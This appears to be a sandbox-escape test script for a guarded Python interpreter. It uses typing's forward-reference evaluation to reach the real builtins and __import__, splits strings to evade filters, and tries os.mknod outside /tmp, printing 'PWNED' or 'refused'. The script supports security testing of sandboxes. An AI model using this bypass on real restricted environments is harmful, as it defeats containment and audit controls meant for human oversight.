# fs: os.mknod of a regular file outside /tmp
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    o.mknod("/dev/shm/rt_node", 0o100644)
    print(M, "made /dev/shm/rt_node", o.stat("/dev/shm/rt_node").st_mode)
except Exception as e:
    print("refused:", type(e).__name__, e)
